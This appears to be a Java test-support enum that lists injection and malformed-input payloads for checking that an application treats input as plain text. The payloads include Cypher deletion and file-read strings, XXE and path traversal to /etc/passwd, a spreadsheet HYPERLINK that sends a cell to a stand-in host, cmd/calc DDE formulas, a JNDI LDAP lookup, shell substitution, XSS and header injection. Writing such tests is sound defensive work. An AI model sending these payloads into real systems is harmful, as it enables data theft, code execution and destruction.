package io.keiretsu.attack;

import java.util.Arrays;
import java.util.List;

/** Texts that do harm where somebody takes them for more than texts. */
enum Payload {

	CYPHER("x'}) DETACH DELETE all // ' OR 1=1 RETURN 1 UNION `x` $buyer"),
	CYPHER_LOADS("\"} ) CALL apoc.load.json('file:///etc/passwd') YIELD value RETURN value //"),
	LUCENE("+A && -B || !(x) {a TO b} [1 TO 2]^2 \"~ *? : \\ /.*/ AND OR NOT"),
	FORMULA("=HYPERLINK(\"//x.example/?\"&A1,\"x\")"), FORMULA_OF_PLUS("+cmd|' /C calc'!A0"),
	FORMULA_OF_MINUS("-2+3+cmd|' /C calc'!A0"), FORMULA_OF_AT("@SUM(1+1)*cmd|' /C calc'!A0"),
	FORMULA_AFTER_A_TAB("\t=1+1"), FORMULA_MARKED("'=1+1"), FORMULA_IN_FULL_WIDTH("＝１＋１"),
	FORMULA_AFTER_A_COMMA("a,=1+1;@x"), HTML("<script>alert(1)</script><img src=x onerror=alert(1)>'\"&amp;"),
	HTML_ATTRIBUTE("\" onfocus=alert(1) autofocus=\""), LINK("javascript:alert(1)"),
	XML("]]><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;"), PATH("../../../../etc/passwd"),
	PATH_OF_WINDOWS("..\\..\\windows\\win.ini"), PATH_ENCODED("..%2f..%2fetc%2fpasswd"), FILE("file:///etc/passwd"),
	TEMPLATE("${jndi:ldap://x.example/a} #{7*7} {{7*7}} {line} %s%n"), SHELL("$(id) `id`; id | id && id"),
	OBJECT("{\"$ne\": null}"), NUL("Toyota\0Motor"), BELL("a\u0007b\u001b[31m"), HEADER("a\r\nSet-Cookie: x=1"),
	TURNED("\u202Egnp.exe"), HIDDEN("To\u200Byo\u200Dta\u2060"), MARK("\uFEFFToyota"),
	STACKED("Z" + "\u0301".repeat(500)), HALF("a\uD83Db"), BEYOND("\uD83C\uDF0B\uDBFF\uDFFF"), NO_SIGN("\uFFFE\uFFFF"),
	FOLDING("ǰẞİıſ"), LONG("A".repeat(20_000)), DIGITS("9".repeat(400)), EXPONENT("1e999999999"), NEGATIVE("-1"),
	NOT_A_NUMBER("NaN"), NO_DATE("0000-00-00T99:99:99Z"), FAR_DATE("+999999999-12-31"),
	SLOW("(a+)+$(((((((((((((((((((((((a*)*)*"), NESTED("[".repeat(3_000)), BLANK(" "), EMPTY(""), ALIAS("*a"),
	TAG("!<tag:x.example,2002:y> !!binary x"), BARS("a|b||c"), DASHES("---\n...");

	private static final boolean ALL = "all".equals(System.getProperty("payloads"));

	private final String text;

	Payload(String text) {
		this.text = text;
	}

	/**
	 * {@return one payload of so many, others at each place; all with
	 * {@code -Dpayloads=all}}
	 * @param where they are to go
	 * @param of how many
	 */
	static List<Payload> some(String where, int of) {
		return Arrays.stream(values())
			.filter((payload) -> ALL || Math.floorMod(where.hashCode() + payload.ordinal(), of) == 0)
			.toList();
	}

	String text() {
		return this.text;
	}

}
